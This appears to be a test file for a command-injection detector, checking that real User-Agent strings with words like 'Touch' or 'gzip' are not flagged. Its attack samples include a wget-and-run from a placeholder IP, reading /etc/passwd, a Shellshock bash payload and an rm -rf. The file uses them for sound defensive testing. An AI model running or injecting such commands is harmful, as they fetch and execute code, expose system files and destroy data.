import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { describeRules, scoreOf } from "./helpers.js";

// Real browsers' and libraries' User-Agents (isbot's fixtures in ../shared/corpora/bots): IE 11 and Edge Legacy on touch
// screens send `Touch;`, Snapchat's in-app browser `gzip)`, OpenResty's client `(Lua)`. A command word that is a whole
// token of the UA's comment has no argument and runs nothing; a command with an argument or opening the value still counts.
describeRules("cmdi: command words as User-Agent comment tokens", (value) => scoreOf(cmdiDetector, value, "header", "user-agent"), {
  "a whole token between ( ; and )": {
    attacks: [
      "Mozilla/5.0; wget http://203.0.113.9/a.sh; sh a.sh",
      "Mozilla/5.0 (X11); cat /etc/passwd;",
      ";id;",
      "() { :; }; /bin/bash -c 'id'",
      "Mozilla/5.0 (Linux); rm -rf /tmp/x; x",
    ],
    benign: [
      "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; Touch; .NET4.0C; .NET4.0E; rv:11.0) like Gecko",
      "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 620) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Snapchat/10.69.5.72 (iPhone10,6; iOS 13.1.3; gzip)",
      "lua-resty-http/0.10 (Lua) ngx_lua/10000",
      "Mozilla/5.0 (compatible; SISTRIX Optimizer; Uptime; +https://www.sistrix.com/faq/uptime)",
    ],
  },
});
